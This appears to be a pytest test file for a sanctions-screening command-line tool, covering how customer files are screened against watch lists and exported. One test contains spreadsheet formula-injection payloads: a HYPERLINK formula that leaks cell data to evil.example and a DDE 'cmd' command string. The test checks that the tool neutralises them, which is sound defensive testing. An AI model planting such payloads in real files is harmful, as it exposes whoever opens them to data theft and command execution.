"""`clearance screen` and `clearance match` as a new user meets them (issues 14 and 15)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from clearance.cli.app import _register, app

runner = CliRunner()
_register()

BANK = ("Customer ID;Customer Name;Customer Type;Date of Birth;Nationality;Segment;Branch\n"
        "C-1001;Acme Widgets Ltd;Corporate;;United Kingdom;SME;London\n"
        "C-1002;Hikvision;Corporate;;China;Vendor;Hangzhou\n"
        "C-1003;Andrey Vladimirovich Khokhlof;Individual;1980;Russia;Private;Berlin\n")


def _screen(tmp_path: Path, text: str, *args: str, name: str = "bank.csv") -> Any:
    src = tmp_path / name
    src.write_text(text, encoding="utf-8")
    return runner.invoke(app, ["screen", str(src), "--workers", "1", *args])


def test_a_bank_export_is_screened_with_its_own_headers(loaded_home: Path, tmp_path: Path
                                                        ) -> None:
    out = tmp_path / "out.csv"
    res = _screen(tmp_path, BANK, "-o", str(out))
    assert res.exit_code == 0, res.output
    assert ("columns: id <- 'Customer ID', name <- 'Customer Name', schema <- 'Customer Type', "
            "birth_date <- 'Date of Birth', country <- 'Nationality'; carried through: "
            "'Segment', 'Branch'") in res.output
    assert "screened 3 rows: 2 with alerts, 0 skipped" in res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0])[:4] == ["id", "screened_name", "Segment", "Branch"]
    by_id: dict[str, list[dict[str, str]]] = {}
    for r in rows:
        by_id.setdefault(r["id"], []).append(r)
    hik = by_id["C-1002"][0]
    assert (hik["screened_name"], hik["Segment"], hik["Branch"], hik["match"]) == (
        "Hikvision", "Vendor", "Hangzhou", "True")
    assert hik["listings"].split("; ")[:2] == ["us_ofac_cons 30946", "us_trade_csl 30946"]
    khokhlov = by_id["C-1003"][0]  # the given type, birth year and country were all used
    assert "birth_date=+0.050" in khokhlov["explanation"]
    assert "country=+0.020 (country ru agrees)" in khokhlov["explanation"]
    # Acme: screened, nothing above the floor, still accounted for by one row
    assert [(r["dataset"], r["match"]) for r in by_id["C-1001"]] == [("", "False")]


def test_jsonl_output_keeps_every_listing_the_name_and_the_extra_columns(
        loaded_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    res = _screen(tmp_path, BANK, "-o", str(out))
    assert res.exit_code == 0, res.output
    lines = {x["id"]: x for x in map(json.loads, out.read_text().splitlines())}
    hik = lines["C-1002"]
    assert hik["name"] == "Hikvision" and hik["input"] == {"Segment": "Vendor",
                                                           "Branch": "Hangzhou"}
    (party,) = [m for m in hik["matches"] if m["source_id"] == "30946"]
    assert len(party["listings"]) == 3
    assert lines["C-1001"]["matches"] == []


def test_a_jsonl_file_screened_to_csv_carries_every_extra_key_of_its_rows(
        loaded_home: Path, tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text('{"id": "1", "name": "Hikvision", "segment": "vendor"}\n'
                   '{"id": "2", "name": "Emma Daniels", "schema": "Person", "branch": "Quito"}\n')
    out = tmp_path / "out.csv"
    res = runner.invoke(app, ["screen", str(src), "-o", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0])[:4] == ["id", "screened_name", "segment", "branch"]
    assert {(r["id"], r["segment"], r["branch"]) for r in rows} == {("1", "vendor", ""),
                                                                    ("2", "", "Quito")}


def test_the_floor_under_results_that_are_not_alerts_can_be_lowered(loaded_home: Path,
                                                                    tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    text = "id,name,type\n1,Acme Widgets Ltd,company\n"
    res = _screen(tmp_path, text, "-o", str(out), "--min-score", "0")
    assert "kept from 0.00 up (--min-score)" in res.output
    (line,) = map(json.loads, out.read_text().splitlines())
    assert line["matches"] and max(m["score"] for m in line["matches"]) < 0.5


def test_a_file_without_a_name_column_exits_non_zero_naming_the_accepted_ones(
        loaded_home: Path, tmp_path: Path) -> None:
    res = _screen(tmp_path, "Satz,Bezeichnung\n1,Hikvision\n")
    assert res.exit_code == 1
    assert ("no name column: the file has 'Satz', 'Bezeichnung'; a name column is one "
            "of name, full name, customer name") in res.output
    ok = _screen(tmp_path, "Satz,Bezeichnung\n1,Hikvision\n", "--name-column",
                 "Bezeichnung", "--id-column", "satz")
    assert ok.exit_code == 0 and "screened 1 rows: 1 with alerts" in ok.output


def test_a_header_without_a_name_column_fails_before_any_list_or_index_is_read(
        home: Path, tmp_path: Path) -> None:
    """A user fixing a header should not first wait for the index to be built (or be told
    to load lists): the header is checked first, in an empty store too."""
    res = _screen(tmp_path, "Satz,Bezeichnung\n1,Hikvision\n")
    assert res.exit_code == 1
    assert "no name column: the file has 'Satz', 'Bezeichnung'" in res.output
    ok_header = _screen(tmp_path, "id,name\n1,Hikvision\n")
    assert ok_header.exit_code == 1 and "no name column" not in ok_header.output


def test_jsonl_rows_none_of_which_can_be_screened_exit_non_zero(loaded_home: Path,
                                                                tmp_path: Path) -> None:
    res = _screen(tmp_path, '{"Kunde": "Hikvision"}\n{"Kunde": "Emma"}\n', name="in.jsonl")
    assert res.exit_code == 1
    assert "skipped: " in res.output and "no row could be screened; each row needs a name" \
        in res.output


def test_a_file_without_an_id_column_is_identified_by_line(loaded_home: Path,
                                                           tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    res = _screen(tmp_path, "Full Name\nHikvision\n\nEmma Daniels\n", "-o", str(out))
    assert res.exit_code == 0 and "rows are identified by their line number" in res.output
    assert [json.loads(x)["id"] for x in out.read_text().splitlines()] == ["2", "4"]


def test_a_bad_byte_skips_its_row_screens_the_rows_after_it_and_exits_3(loaded_home: Path,
                                                                tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(b"id,name\n1,Hikvision\n2,Caf\xe9\n3,Emma Daniels\n")
    out = tmp_path / "out.jsonl"
    res = runner.invoke(app, ["screen", str(src), "-o", str(out), "--workers", "1"])
    assert res.exit_code == 3  # written, but not whole: a scheduled job must notice
    assert f"skipped: {src}, line 3: byte 0xe9 is not valid UTF-8" in res.output
    assert "incomplete: 1 rows" in res.output
    assert [json.loads(x)["id"] for x in out.read_text().splitlines()] == ["1", "3"]


def test_the_output_may_not_be_the_input(tmp_path: Path, home: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,name\n1,Hikvision\n")
    res = runner.invoke(app, ["screen", str(src), "-o", str(tmp_path / "." / "in.csv")])
    assert res.exit_code == 1 and "the output is the input file" in res.output
    assert src.read_text() == "id,name\n1,Hikvision\n"  # untouched


def test_an_output_in_a_missing_folder_is_refused_before_screening(tmp_path: Path,
                                                                   home: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,name\n1,Hikvision\n")
    res = runner.invoke(app, ["screen", str(src), "-o", str(tmp_path / "nope" / "out.xlsx")])
    assert res.exit_code == 1 and "does not exist" in res.output


@pytest.mark.parametrize(
    "args",
    [["--limit", "0"], ["--limit", "51"], ["--threshold", "5"], ["--threshold", "-0.1"],
     ["--min-score", "1.5"], ["--workers", "0"]],
)
def test_out_of_range_options_are_refused_as_the_api_refuses_them(tmp_path: Path, home: Path,
                                                                  args: list[str]) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,name\n1,Hikvision\n")
    res = runner.invoke(app, ["screen", str(src), *args])
    assert res.exit_code == 2 and "Invalid value for" in res.output


def test_screen_uses_every_core_by_default(tmp_path: Path, home: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    import clearance.cli.match as match_cmd
    from clearance.screening import batch

    seen: dict[str, Any] = {}

    def fake_lines(items: Any, cfg: Any, limit: int, workers: int, index: Any,
                   min_score: float) -> Any:
        seen["workers"] = workers
        return iter([(json.dumps({"id": i[0]}), False) for i in items])

    monkeypatch.setattr(batch, "default_workers", lambda: 7)  # screen imports them on use
    monkeypatch.setattr(batch, "screen_row_lines", fake_lines)
    monkeypatch.setattr(match_cmd, "require_lists", lambda: None)
    monkeypatch.setattr(match_cmd, "_loaded_index", lambda: object())
    src = tmp_path / "in.csv"  # more rows than are screened without the whole index
    src.write_text("id,name\n" + "".join(f"{i},Hikvision\n" for i in range(batch.FEW + 1)))
    res = runner.invoke(app, ["screen", str(src)])
    assert res.exit_code == 0, res.output
    assert seen["workers"] == 7


def test_screen_help_lists_the_recognised_columns() -> None:
    res = runner.invoke(app, ["screen", "--help"], env={"COLUMNS": "200"})
    text = " ".join(res.output.split())
    for words in ("customer id", "customer name", "first name + last name", "entity type",
                  "date of birth", "nationality", "--name-column", "--column", "--min-score",
                  "--encoding"):
        assert words in text


def test_match_shows_one_party_with_its_other_listings(loaded_home: Path) -> None:
    res = runner.invoke(app, ["match", "Hikvision", "--schema", "company", "--limit", "1"],
                        env={"COLUMNS": "200"})
    assert res.exit_code == 0
    assert res.output.count("also listed: us_trade_csl") == 2
    bad = runner.invoke(app, ["match", "Hikvision", "--schema", "Compnay"])
    assert bad.exit_code == 1 and "--schema 'Compnay': use Person" in bad.output
    germany = runner.invoke(app, ["match", "Nordwind", "--country", "Germany", "--json"])
    assert germany.exit_code == 0


def test_screening_with_no_list_loaded_is_refused_not_reported_clean(home: Path,
                                                                     tmp_path: Path) -> None:
    res = _screen(tmp_path, "id,name\n1,Hikvision\n")
    assert res.exit_code == 1 and "no list is loaded" in res.output
    assert "no list is loaded" in runner.invoke(app, ["match", "Hikvision"]).output


def test_a_german_export_is_read_and_an_unreadable_country_never_skips_a_listed_name(
        loaded_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    res = _screen(tmp_path, "Kundennummer;Name;Vorname;Staatsangehörigkeit;Kundentyp\n"
                  "1001;Khokhlov;Andrei Vladimirovich;Russische Föderation;natürliche Person\n"
                  "1002;Müller;Jürgen;Deutschland;Privatkunde\n", "-o", str(out),
                  name="kunden.csv")
    assert res.exit_code == 0, res.output
    assert "'Name' read as the last name (beside 'Vorname'" in res.output
    assert ("ignored: " in res.output and "line 2: row '1001': 'Russische Föderation' is not a "
            "country name or ISO code (field 'country'); the row is screened without it"
            in res.output.replace("\n", " "))
    assert "screened 2 rows: 1 with alerts, 0 skipped, 1 unreadable values ignored" in res.output
    lines = {x["id"]: x for x in map(json.loads, out.read_text().splitlines())}
    assert lines["1001"]["name"] == "Andrei Vladimirovich Khokhlov"
    assert lines["1001"]["matches"][0]["name"] == "KHOKHLOV, Andrei Vladimirovich"
    assert lines["1001"]["matches"][0]["match"] is True


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_name_written_as_a_formula_is_exported_as_text_never_as_a_formula(
        loaded_home: Path, tmp_path: Path, suffix: str) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Hikvision")'
    out = tmp_path / f"out{suffix}"
    quoted = formula.replace('"', '""')
    res = _screen(tmp_path, f"id,name,=cmd|' /C calc'!A0\n1,\"{quoted}\",x\n", "-o", str(out))
    assert res.exit_code == 0, res.output
    if suffix == ".csv":
        (row,) = csv.DictReader(out.open(encoding="utf-8"))
        assert row["screened_name"] == "'" + formula
        assert "'=cmd|' /C calc'!A0" in row
    else:
        from openpyxl import load_workbook

        head, first = load_workbook(out)["matches"].iter_rows(max_row=2)
        assert (first[1].value, first[1].data_type) == (formula, "s")
        assert (head[2].value, head[2].data_type) == ("=cmd|' /C calc'!A0", "s")


def test_a_screen_on_two_workers_writes_every_row_and_its_audit_record(
        loaded_home: Path, tmp_path: Path) -> None:
    # more rows than a pool is started for (batch.SMALL): the workers are forked, and the
    # store's modules are imported in the background meanwhile (cli.match._import_soon)
    from clearance.screening import batch
    from clearance.store import audit

    rows = batch.SMALL + 50
    src = tmp_path / "many.csv"
    src.write_text("id,name\n" + "".join(f"R{i},Hikvision {i}\n" for i in range(rows)),
                   encoding="utf-8")
    out = tmp_path / "many.jsonl"
    res = runner.invoke(app, ["screen", str(src), "-o", str(out), "--workers", "2"])
    assert res.exit_code == 0, res.output
    assert [json.loads(x)["id"] for x in out.read_text().splitlines()] == [
        f"R{i}" for i in range(rows)]
    runs = [r.detail for r in audit.iter_records()
            if r.action == "screening.run" and r.detail.get("input") == str(src)]
    assert len(runs) == 1 and runs[0]["rows"] == rows


def _console(home: Path, *args: str) -> Any:
    import os
    import subprocess
    import sys

    code = "from clearance.cli.app import main; main()"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True,
                          timeout=300, env={**os.environ, "CLEARANCE_HOME": str(home)})


def test_the_console_script_ends_with_every_result_written_and_the_run_recorded(
        loaded_home: Path, tmp_path: Path) -> None:
    # it skips the interpreter's teardown (processes.exit_now): nothing it wrote may be lost
    from clearance.store import audit

    src = tmp_path / "bank.csv"
    src.write_text(BANK.replace(";", ","), encoding="utf-8")
    out = tmp_path / "out.csv"
    done = _console(loaded_home, "screen", str(src), "-o", str(out))
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8", newline="") as fh:
        ids = {r["id"] for r in csv.DictReader(fh)}
    assert {"C-1002", "C-1003"} <= ids
    to_stdout = _console(loaded_home, "screen", str(src))
    assert [json.loads(x)["id"] for x in to_stdout.stdout.splitlines()] == [
        "C-1001", "C-1002", "C-1003"]
    runs = [r.detail for r in audit.iter_records()
            if r.action == "screening.run" and r.detail.get("input") == str(src)]
    assert [r["rows"] for r in runs] == [3, 3]
    shown = _console(loaded_home, "match", "Hikvision", "--json")
    assert shown.returncode == 0 and json.loads(shown.stdout)["results"]
    nothing = tmp_path / "none.jsonl"
    nothing.write_text('{"name": "no id"}\n', encoding="utf-8")
    assert _console(loaded_home, "screen", str(nothing)).returncode == 1


def test_a_file_of_a_few_rows_is_screened_without_loading_the_whole_index(
        loaded_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from clearance.index import store
    from clearance.screening.batch import FEW

    loads: list[int] = []
    whole = store.ensure_index
    monkeypatch.setattr(store, "ensure_index", lambda: loads.append(1) or whole())
    rows = [r for r in BANK.splitlines()[1:]]
    few = _screen(tmp_path, "\n".join([BANK.splitlines()[0], *rows[:FEW]]) + "\n")
    assert few.exit_code == 0, few.output
    assert loads == []
    assert {json.loads(x)["id"] for x in few.stdout.splitlines() if x.startswith("{")} == {
        r.split(";")[0] for r in rows[:FEW]}
    more = [f"C-{2000 + i};Name {i};Individual;;;;" for i in range(FEW + 1)]
    many = _screen(tmp_path, "\n".join([BANK.splitlines()[0], *more]) + "\n")
    assert many.exit_code == 0, many.output
    assert loads == [1]


def test_a_birth_date_column_supports_an_agreeing_row_and_counts_against_a_conflicting_one(
        loaded_home: Path, tmp_path: Path) -> None:
    # KHAN, Anwar Ahmed (SDN 28054) is recorded born 01 Jan 1959; "Anwar Khan" leaves his
    # middle name out and agrees only on names many people bear (README: "birth date
    # (conflict -0.20, agreement +0.05)")
    text = ("Client ID,Full Name,Date of Birth\n"
            "agrees,Anwar Khan,1959-01-01\n"
            "year,Anwar Khan,1959\n"
            "swappable,Anwar Khan,01/01/1959\n"  # day and month may be swapped: the year
            "near,Anwar Khan,1960-05-05\n"  # within a year: a slip, neither way
            "none,Anwar Khan,\n"
            "conflicts,Anwar Khan,12.03.1975\n"
            "whole,Anwar Ahmed Khan,12.03.1975\n")
    out = tmp_path / "out.jsonl"
    res = _screen(tmp_path, text, "-o", str(out))
    assert res.exit_code == 0, res.output
    rows = {r["id"]: r for r in map(json.loads, out.read_text().splitlines())}

    def listed(row: str) -> dict[str, Any]:
        return next(m for m in rows[row]["matches"]
                    if (m["dataset"], m["source_id"]) == ("us_ofac_sdn", "28054"))

    base = listed("none")["score"]
    assert listed("none")["match"]
    for row in ("agrees", "year", "swappable"):
        assert listed(row)["match"] and listed(row)["score"] == pytest.approx(base + 0.05), row
        assert "birth date 1959" in listed(row)["explanation"], row
    assert listed("near")["score"] == pytest.approx(base)
    # a conflicting date on a shortened name of common names: no alert
    assert not listed("conflicts")["match"]
    assert listed("conflicts")["score"] == pytest.approx(base - 0.2)
    # the whole listed name stays an alert however the date conflicts: a listed party's
    # date may be wrong or another of theirs (a date alone never hides a listed name)
    assert listed("whole")["match"]


def test_a_screen_off_a_terminal_imports_no_progress_bar(
        loaded_home: Path, tmp_path: Path) -> None:
    # it is not shown there: 0.01 s of a screen's serial start
    src = tmp_path / "book.csv"
    src.write_text("id,name,type\n1,Hikvision,company\n2,Emma Daniels,person\n",
                   encoding="utf-8")
    code = ("import atexit, sys\n"
            "atexit.register(lambda: print('rich.progress' in sys.modules, file=sys.stderr))\n"
            "from clearance.cli.app import main; main()")
    done = subprocess.run([sys.executable, "-c", code, "screen", str(src), "-o",
                           str(tmp_path / "out.jsonl"), "--threshold", "0.8", "--limit", "3"],
                          capture_output=True, text=True, timeout=300,
                          env={**os.environ, "CLEARANCE_HOME": str(loaded_home)})
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines()[-1] == "False"
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == 2
